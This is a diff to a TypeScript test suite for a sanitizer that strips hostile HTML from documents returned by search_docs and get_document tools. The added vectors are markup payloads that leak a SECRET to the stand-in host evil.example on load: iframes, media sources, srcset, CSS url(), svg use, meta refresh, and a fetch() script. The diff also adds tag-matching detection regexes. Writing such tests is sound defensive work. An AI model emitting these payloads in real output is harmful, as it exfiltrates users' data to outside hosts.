@@ -94,6 +94,70 @@ const vectors: { name: string; input: string; expected: string }[] = [
     input: "<https://evil.example/?q=SECRET>",
     expected: "https://evil.example/?q=SECRET",
   },
+  // Raw HTML that loads without a click: through a real tokenizer, it becomes its text.
+  {
+    name: "an iframe",
+    input: '<iframe src="https://evil.example/f?q=SECRET">framed</iframe> text',
+    expected: "framed text",
+  },
+  {
+    name: "a video poster, its sources and an audio",
+    input:
+      '<video poster="https://evil.example/p.png?q=SECRET"><source src="https://evil.example/v?q=SECRET">clip</video><audio src="https://evil.example/a?q=SECRET">',
+    expected: "clip",
+  },
+  {
+    name: "a picture's srcset",
+    input:
+      '<picture><source srcset="https://evil.example/p.png?q=SECRET 2x"><img src="https://evil.example/p.png?q=SECRET" alt="chart"></picture>',
+    expected: "[image: chart]",
+  },
+  {
+    name: "object and embed",
+    input:
+      '<object data="https://evil.example/o?q=SECRET">object</object><embed src="https://evil.example/e?q=SECRET">',
+    expected: "object",
+  },
+  {
+    name: "a stylesheet link and an image input",
+    input:
+      '<link rel=stylesheet href="https://evil.example/s.css?q=SECRET">go <input type=image src="https://evil.example/b.png?q=SECRET" alt="submit">',
+    expected: "go [image: submit]",
+  },
+  {
+    name: "CSS url() in a style attribute and in a <style>",
+    input:
+      '<span style="background:url(https://evil.example/p.png?q=SECRET)">span</span><style>p{background:url(https://evil.example/q.png?q=SECRET)}</style>',
+    expected: "span",
+  },
+  {
+    name: "svg use and svg image",
+    input:
+      '<svg><use href="https://evil.example/s.svg?q=SECRET#i"/><image href="https://evil.example/p.png?q=SECRET"/></svg>',
+    expected: "[image]",
+  },
+  {
+    name: "a meta refresh and a base",
+    input:
+      '<meta http-equiv="refresh" content="0;url=https://evil.example/?q=SECRET"><base href="https://evil.example/">refresh',
+    expected: "refresh",
+  },
+  {
+    name: "an HTML link and a script",
+    input:
+      '<a href="https://evil.example/?q=SECRET">docs</a> <script>fetch("https://evil.example/?q=SECRET")</script>done',
+    expected: "docs (evil.example) done",
+  },
+  {
+    name: "entities are decoded once, and cannot come back as a tag",
+    input: "&lt;img src=x&gt; &amp;lt;b&amp;gt; R&amp;D &copy; a=1&not=2",
+    expected: "&lt;img src=x> &amp;lt;b&amp;gt; R&D © a=1&not=2",
+  },
+  {
+    name: "text that only looks like a tag stays: generics in code",
+    input: "List<String> and Map<K, V> and Promise<void>",
+    expected: "List<String> and Map<K, V> and Promise<void>",
+  },
   {
     name: "code and ordinary brackets pass through",
     input: "kubectl get pods -n ledger | grep -v Running [x] (y) a > b",
@@ -145,6 +209,10 @@ function expectPlainText(text: string | null) {
   expect(text).not.toContain("](");
   expect(text).not.toMatch(/<im(?:g|age)\b/i);
   expect(text).not.toMatch(/\.png\?q=SECRET/);
+  expect(text).not.toMatch(
+    /<(?:iframe|video|audio|source|object|embed|link|input|meta|base|svg|use|a|script|style)\b/i,
+  );
+  expect(text).not.toMatch(/url\(https:\/\/evil/);
 }
 
 describe("a hostile corpus through search_docs and get_document", () => {
